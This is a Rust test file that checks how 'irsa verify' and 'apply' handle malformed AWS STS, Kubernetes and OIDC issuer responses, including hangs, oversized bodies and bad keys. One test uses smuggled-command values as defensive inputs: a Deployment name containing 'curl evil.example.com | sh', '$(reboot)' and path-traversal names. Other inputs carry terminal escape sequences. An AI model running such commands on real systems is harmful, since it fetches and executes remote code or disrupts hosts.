//! Answers that no sane service gives: `irsa verify` neither hangs, nor prints junk, nor calls a chain broken for them.

use super::{Scene, owner, token_answer};
use crate::ownership::role;
use crate::support::moments::{PATIENCE, pause};
use crate::support::proxies::{self, Socks};
use crate::support::verification::{link, text};
use crate::support::world::FIRST;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use irsa_sandbox::aws;
use irsa_sandbox::gate::Stage;
use irsa_sandbox::kubernetes::{Fault, Match, Resource};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

#[test]
fn answers_of_sts_that_are_not_its_own_prove_nothing() {
    let scene = Scene::new();
    for (status, body) in [
        (200, "no XML at all"),
        (200, "<AssumeRoleWithWebIdentityResponse/>"),
        (200, "{\"Credentials\": {}}"),
        (403, "<html>the proxy says no</html>"),
        (200, ""),
    ] {
        let fault = aws::Fault::Page { status, body: body.to_owned() };
        scene.world.fault(Stage::Before, aws::Match::on("sts", "AssumeRoleWithWebIdentity"), fault, None);
        let (status, text) = scene.link(4, "assume", &[]);
        assert_eq!(status, "unknown", "{body}: {text}");
        assert!(text.contains("sts:AssumeRoleWithWebIdentity"), "{body}: {text}");
        scene.world.allow_all();
    }
}

#[test]
fn token_that_is_none_proves_nothing() {
    let scene = Scene::new();
    let cluster = scene.world.cluster("main");
    let long = format!("e30.{}.x", "A".repeat(100_000));
    for token in ["", "x", "a.b.c", "e30.e30x.x", "\u{202e}evil", &long] {
        cluster.gate().fault(Stage::Before, Match::on("create", "serviceaccounts/token"), token_answer(token), None);
        let (status, text) = scene.link(4, "token", &[]);
        assert_eq!(status, "unknown", "{text}");
        assert!(text.contains("does not understand the API's answer"), "{text}");
        assert_eq!(scene.link(4, "assume", &[]).0, "unknown");
        cluster.gate().heal();
    }
}

#[test]
fn webhook_configuration_that_cannot_be_parsed_is_not_seen() {
    let scene = Scene::new();
    let mut ca = Value::Null;
    scene.webhook(|hook| ca = hook["clientConfig"]["caBundle"].clone());
    scene.webhook(|hook| hook["clientConfig"]["caBundle"] = json!("not base64 !"));
    let (status, text) = scene.link(4, "webhook", &[]);
    assert_eq!(status, "unknown", "{text}");
    assert!(text.contains("MutatingWebhookConfiguration `pod-identity-webhook`"), "{text}");
    // base64 of something else than certificates
    scene.webhook(|hook| hook["clientConfig"]["caBundle"] = json!("bm90IFBFTQ=="));
    scene.says("webhook", &["is not the cluster's authority"]);
    // a malformed one beside a good one does no harm
    scene.webhook(|hook| hook["clientConfig"]["caBundle"] = ca.clone());
    let other = json!({"metadata": {"name": "other"}, "webhooks": [{"name": "x", "clientConfig": {"caBundle": "!"}}]});
    scene.world.cluster("main").with(|store| store.seed(Resource::MutatingWebhooks, "", other, "x")).expect("another");
    assert_eq!(scene.link(0, "webhook", &[]).0, "ok");
}

#[test]
fn pod_that_cannot_be_parsed_is_named_and_not_dropped() {
    let scene = Scene::new();
    scene.good_pod("db-0");
    scene.good_pod("odd-0");
    let tamper = |change: &dyn Fn(&mut Value)| {
        let changed =
            scene.world.cluster("main").with(|store| store.tamper(Resource::Pods, "apps", "odd-0", |pod| change(pod)));
        assert!(changed, "there is no pod");
    };
    tamper(&|pod| pod["spec"]["containers"] = json!("none"));
    let (status, text) = scene.link(4, "pods", &[]);
    assert_eq!(status, "unknown", "{text}");
    assert!(text.contains("does not understand pod `odd-0`"), "{text}");
    // its ServiceAccount is not known: it may be this one
    tamper(&|pod| pod["spec"] = json!(7));
    assert_eq!(scene.link(4, "pods", &[]).0, "unknown");
    // it belongs to another one
    tamper(&|pod| pod["spec"] = json!({"serviceAccountName": "other", "containers": 7}));
    assert_eq!(scene.link(0, "pods", &[]).0, "ok");
    // it is being deleted
    tamper(&|pod| {
        pod["spec"] = json!(7);
        pod["metadata"]["deletionTimestamp"] = json!("2026-01-02T03:04:05Z");
    });
    assert_eq!(scene.link(0, "pods", &[]).0, "ok");
    tamper(&|pod| pod["metadata"]["deletionTimestamp"] = Value::Null);
    // a variable without a value of its own is no role
    tamper(&|pod| {
        let reference = json!({"configMapKeyRef": {"name": "x", "key": "role"}});
        pod["spec"] = json!({"serviceAccountName": "app", "containers": [
            {"name": "main", "image": "pause", "env": [{"name": "AWS_ROLE_ARN", "valueFrom": reference}]}]});
    });
    scene.says("pods", &["1 pod has an `AWS_ROLE_ARN` that is empty or from `valueFrom`"]);
    // a broken pod decides over one that was not seen
    tamper(&|pod| pod["spec"] = json!({"serviceAccountName": "app", "containers": 7}));
    scene.bare_pod("db-1");
    scene.says("pods", &["1 pod has no `AWS_ROLE_ARN`"]);
}

#[test]
fn owner_of_a_pod_cannot_write_commands_into_a_hint() {
    let scene = Scene::new();
    scene.pod("x", &owner("Deployment", "web; curl evil.example.com | sh"), &json!({}), &[], "sts.amazonaws.com");
    scene.says("pods", &["rollout restart 'deployment/web; curl evil.example.com | sh'"]);
    scene.pod("y", &owner("$(reboot)", "it's"), &json!({}), &[], "sts.amazonaws.com");
    scene.says("pods", &["restart '$(reboot)/it'\\''s' in namespace"]);
    // nor the path of a request
    let cluster = scene.world.cluster("main");
    for (number, name) in ["x/../../../../../api/v1/nodes", "x?watch=true", "..", "%2e%2e"].iter().enumerate() {
        let owner = owner("ReplicaSet", name);
        scene.pod(&format!("z{number}"), &owner, &json!({}), &[], "sts.amazonaws.com");
    }
    cluster.gate().forget();
    scene.says("pods", &["replicaset/.."]);
    let log = cluster.gate().log();
    let strange = log.iter().find(|record| ["replicasets", "nodes"].iter().any(|word| record.call.path.contains(word)));
    assert!(strange.is_none(), "{strange:?}");
}

#[test]
fn junk_of_an_issuer_is_broken_and_bounded() {
    let scene = Scene::new();
    let issuer = scene.world.issuer("main");
    let (document, keys) = (format!("{issuer}/.well-known/openid-configuration"), format!("{issuer}/keys"));
    let publish = |url: &str, body: Option<String>| {
        scene.world.with(|sandbox| sandbox.publish(url, body.map(|body| (200, body))));
    };
    for junk in ["", "[", "7", "[]", "\u{1b}[2Jx", "{\"issuer\": 7}", "{\"issuer\": \"\\u202e\"}"] {
        publish(&document, Some(junk.to_owned()));
        let run = scene.verify(7, &[]);
        run.says("FAIL issuer: ");
        assert!(!run.stdout.contains(['\u{1b}', '\u{202e}']), "{run}");
    }
    publish(&document, None);
    for junk in ["[]", "{\"keys\": 7}", "{\"keys\": [7, null, {}, {\"kid\": 7}, {\"kid\": \"\\u001b[2J\"}]}"] {
        publish(&keys, Some(junk.to_owned()));
        scene.says("issuer", &["published keys lack `"]);
    }
    publish(&keys, Some("{\"keys\": [".to_owned() + &"{},".repeat(3_000_000) + "{}]}"));
    scene.says("issuer", &["is larger than 1 MiB"]);
}

#[test]
fn issuer_that_hangs_is_not_waited_for() {
    let mut scene = Scene::new();
    // accepts connections, and never answers
    let silent = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = silent.local_addr().expect("an address");
    scene.bench.set("HTTPS_PROXY", &format!("http://{address}"));
    scene.bench.set("IRSA_TEST_SPEED", "10");
    let begin = Instant::now();
    let (status, text) = scene.link(4, "issuer", &[]);
    assert_eq!(status, "unknown", "{text}");
    assert!(text.contains("no answer in time"), "{text}");
    assert!(begin.elapsed() < Duration::from_secs(20), "{:?}", begin.elapsed());
}

/// The key id of the tokens of a cluster.
fn key_id(scene: &Scene) -> String {
    let token = scene.world.with(|sandbox| sandbox.token("main", "apps", "app", "sts.amazonaws.com"));
    let token = token.expect("a token");
    let header = URL_SAFE_NO_PAD.decode(token.split('.').next().expect("a header")).expect("base64");
    let header: Value = serde_json::from_slice(&header).expect("JSON");
    header["kid"].as_str().expect("a key id").to_owned()
}

#[test]
fn published_key_must_verify_the_token_and_not_only_have_its_id() {
    let scene = Scene::new();
    let (id, keys) = (key_id(&scene), format!("{}/keys", scene.world.issuer("main")));
    let publish = |all: Value| {
        scene.world.with(|sandbox| sandbox.publish(&keys, Some((200, json!({"keys": all}).to_string()))));
    };
    let other = json!({"kty": "RSA", "kid": id, "alg": "RS256", "e": "AQAB", "n": URL_SAFE_NO_PAD.encode([0xff; 256])});
    publish(json!([other]));
    scene.says("issuer", &["is not the one with which the API signs: the signature is wrong", "publish the keys"]);
    publish(json!([{"kty": "EC", "kid": id, "crv": "P-256", "x": "AA", "y": "AA"}]));
    scene.says("issuer", &["the signature is wrong"]);
    // what irsa cannot check is said, and is no failure
    publish(json!([other, {"kty": "OKP", "kid": id}]));
    let (status, text) = scene.link(0, "issuer", &[]);
    assert_eq!(status, "ok");
    assert!(text.contains("irsa cannot check signatures of its kind"), "{text}");
    scene.world.with(|sandbox| sandbox.publish(&keys, None));
    assert!(scene.link(0, "issuer", &[]).1.contains("publishes the key that the API signs with"));
}

#[test]
fn issuer_is_read_with_the_authorities_of_aws_ca_bundle_too() {
    let mut scene = Scene::new();
    let authority = scene.world.environment_with_issuers()["SSL_CERT_FILE"].clone();
    // an authority that signed nothing
    let other = scene.bench.path("other.pem");
    std::fs::write(&other, scene.world.cluster("main").certificate_authority_pem()).expect("it is writable");
    scene.bench.set("SSL_CERT_FILE", &other.display().to_string());
    let (status, text) = scene.link(4, "issuer", &[]);
    assert!(status == "unknown" && text.contains("UnknownIssuer"), "{status} {text}");
    scene.bench.set("AWS_CA_BUNDLE", &other.display().to_string());
    assert_eq!(scene.link(4, "issuer", &[]).0, "unknown");
    scene.bench.set("AWS_CA_BUNDLE", &authority);
    assert_eq!(scene.link(0, "issuer", &[]).0, "ok");
    // a system without authorities
    scene.bench.set("SSL_CERT_FILE", "/does/not/exist");
    assert_eq!(scene.link(0, "issuer", &[]).0, "ok");
}

#[test]
fn issuer_is_read_through_a_socks_proxy_with_a_password() {
    let mut scene = Scene::new();
    let proxy = scene.world.environment_with_issuers()["HTTPS_PROXY"].clone();
    let proxy = proxy.rsplit(':').next().and_then(|port| port.parse().ok()).expect("a port");
    let host = scene.host().split('/').next().expect("a host").to_owned();
    let bridge = proxies::through(proxy, &format!("{host}:443"));
    let socks = Socks::to(bridge, Some(("me".into(), "se@cret".into())));
    scene.bench.set("HTTPS_PROXY", &format!("socks5://me:se%40cret@127.0.0.1:{}", socks.port));
    let (status, text) = scene.link(0, "issuer", &[]);
    assert_eq!(status, "ok", "{text}");
    // the document and the keys
    assert_eq!(socks.asked(), [host.as_str(), &host]);
    scene.bench.set("HTTPS_PROXY", &format!("socks5://me:wrong@127.0.0.1:{}", socks.port));
    let (status, text) = scene.link(4, "issuer", &[]);
    assert!(status == "unknown" && text.contains("SOCKS"), "{status} {text}");
}

#[test]
fn declared_deny_is_changed_in_the_configuration() {
    let scene = Scene::bare();
    let deny = format!(
        "[[roles.app.trust]]\neffect = \"Deny\"\nactions = [\"sts:AssumeRoleWithWebIdentity\"]\n\
         principals = {{ federated = [\"{}\"] }}\n",
        scene.provider()
    );
    scene.declare(&(role("app") + &deny));
    scene.bench.ends(0, &["apply", "--auto-approve", "--deny", "none"]);
    let run = scene.verify(7, &["--deny", "none"]);
    run.says("denies `system:serviceaccount:apps:app`").says("`[[roles.app.trust]]` declares it: narrow or remove it");
}

#[test]
fn pattern_names_the_service_accounts_that_it_matches() {
    let scene = Scene::bare();
    let entry = "[[service-accounts]]\nrole = \"app\"\nnamespace = \"apps\"\nname = \"job-*\"\nallow-wildcard = \"jobs\"\nmanage = \"none\"\n";
    scene.declare(&format!("[roles.app]\nattach = [\"aws:AmazonS3ReadOnlyAccess\"]\n{entry}"));
    scene.bench.ends(0, &["apply", "--auto-approve", "--deny", "none"]);
    scene.verify(0, &["--deny", "none", "-v"]).says("it matches none");
    for number in 0..12 {
        let body = json!({"metadata": {"name": format!("job-{number:02}")}});
        let made =
            scene.world.cluster("main").with(|store| store.seed(Resource::ServiceAccounts, "apps", body, "somebody"));
        made.expect("a ServiceAccount");
    }
    let run = scene.verify(0, &["--deny", "none", "-v"]);
    run.says("it matches `apps/job-00`, `apps/job-01`").says("`apps/job-09` and 2 more");
    assert!(!run.stdout.contains("job-10"), "{run}");
}

#[test]
fn progress_counts_the_service_accounts() {
    let mut scene = Scene::new();
    scene.bench.set("CI", "true");
    let run = scene.verify(0, &[]);
    assert!(run.stderr.contains("Tried 1 ServiceAccount.\n"), "{run}");
    assert!(!scene.verify(0, &["--no-progress"]).stderr.contains("Tried"), "{run}");
}

#[test]
fn services_that_hang_or_never_end_are_not_waited_for() {
    let mut scene = Scene::new();
    scene.good_pod("db-0");
    scene.bench.set("IRSA_TEST_SPEED", "4");
    let begin = Instant::now();
    let cluster = scene.world.cluster("main");
    scene.world.fault(Stage::Before, aws::Match::on("sts", "AssumeRoleWithWebIdentity"), aws::Fault::Hang, None);
    for (verb, resource) in [("list", "pods"), ("list", "mutatingwebhookconfigurations")] {
        cluster.gate().fault(Stage::Before, Match::on(verb, resource), Fault::Hang, None);
    }
    let links = |scene: &Scene| {
        let document = scene.verify(4, &["--format", "json", "--timeout", "8s"]).json();
        ["token", "webhook", "assume", "pods"].map(|name| text(link(&document, name), "status"))
    };
    assert_eq!(links(&scene), ["ok", "unknown", "unknown", "unknown"]);
    assert!(begin.elapsed() < Duration::from_secs(30), "{:?}", begin.elapsed());
    scene.world.allow_all();
    cluster.gate().heal();
    let endless = format!("{{\"metadata\":{{}},\"items\":[{}", "{},".repeat(12 << 20));
    cluster.gate().fault(Stage::Before, Match::on("list", "pods"), Fault::Page { status: 200, body: endless }, None);
    let (status, text) = scene.link(4, "pods", &[]);
    assert_eq!(status, "unknown");
    assert!(text.contains("MiB"), "{text}");
}

#[test]
fn reason_that_many_share_is_printed_once() {
    let scene = Scene::bare();
    scene.declare(&(role("app") + &role("two") + &role("three")));
    scene.bench.ends(0, &["apply", "--auto-approve"]);
    let cluster = scene.world.cluster("main");
    cluster.gate().fault(Stage::Before, Match::on("create", "serviceaccounts/token"), Fault::Deny, None);
    let run = scene.verify(4, &[]);
    assert_eq!(run.stdout.matches("? token: ").count(), 1, "{run}");
    run.says("cannot create resource \"serviceaccounts/token\"").says("    service-account/main/apps/two");
    cluster.gate().heal();
    let fault = aws::Fault::Page { status: 400, body: "<html/>".to_owned() };
    scene.world.fault(Stage::Before, aws::Match::on("sts", "AssumeRoleWithWebIdentity"), fault, None);
    let run = scene.verify(4, &[]);
    assert_eq!(run.stdout.matches("? assume: ").count(), 1, "{run}");
}

#[test]
fn session_that_sts_does_not_confirm_proves_nothing() {
    let scene = Scene::new();
    // the first call is that of irsa's own credentials
    let gate = |fault: aws::Fault| {
        let pass = aws::Fault::Delay(Duration::ZERO);
        scene.world.fault(Stage::Before, aws::Match::on("sts", "GetCallerIdentity"), pass, Some(1));
        scene.world.fault(Stage::Before, aws::Match::on("sts", "GetCallerIdentity"), fault, None);
    };
    gate(aws::Fault::Deny);
    let (status, text) = scene.link(4, "assume", &[]);
    assert!(status == "unknown" && text.contains("sts:GetCallerIdentity"), "{status} {text}");
    scene.world.allow_all();
    let other = "<GetCallerIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetCallerIdentityResult>\
         <Arn>arn:aws:sts::111122223333:assumed-role/other/x</Arn><UserId>x</UserId><Account>111122223333</Account>\
         </GetCallerIdentityResult></GetCallerIdentityResponse>";
    gate(aws::Fault::Page { status: 200, body: other.to_owned() });
    scene.says("assume", &["STS gave a session of `arn:aws:sts::111122223333:assumed-role/other/x`, not of"]);
}

#[test]
fn apply_that_is_interrupted_while_it_verifies_says_that_it_applied() {
    let scene = Scene::bare();
    scene.declare(&role("app"));
    scene.world.fault(Stage::Before, aws::Match::on("sts", "AssumeRoleWithWebIdentity"), aws::Fault::Deny, None);
    let running = scene.bench.start(&["apply", "--auto-approve", "--verify"]);
    let begin = Instant::now();
    while !scene.world.actions().contains(&"AssumeRoleWithWebIdentity".to_owned()) {
        assert!(begin.elapsed() < PATIENCE, "STS was not asked");
        pause();
    }
    running.signal("INT");
    let run = running.ends();
    assert_eq!(run.code, 130, "{run}");
    run.says("interrupted; the plan was applied, and what it touched was not verified");
    assert!(!run.stderr.contains("nothing was written") && scene.world.has_role(FIRST, "app"), "{run}");
}

#[test]
fn apply_with_verify_prints_one_document_and_only_what_it_touched() {
    let scene = Scene::bare();
    scene.declare(&role("app"));
    let run = scene.bench.ends(0, &["apply", "--auto-approve", "--verify", "--format", "json"]);
    assert_eq!(run.json()["succeeded"], true);
    assert!(run.stderr.contains("Verified 1 ServiceAccount: 1 ok"), "{run}");
    // nothing was touched, and nothing is broken
    scene.annotate("eks.amazonaws.com/token-expiration", Some("1h"));
    scene.declare(&(role("app") + &role("two")));
    let run = scene.bench.ends(0, &["apply", "--auto-approve", "--verify"]);
    run.says("Verified 1 ServiceAccount: 1 ok").says("main apps/two");
    let run = scene.bench.ends(0, &["apply", "--auto-approve", "--verify"]);
    assert!(!run.stdout.contains("Verified"), "{run}");
}
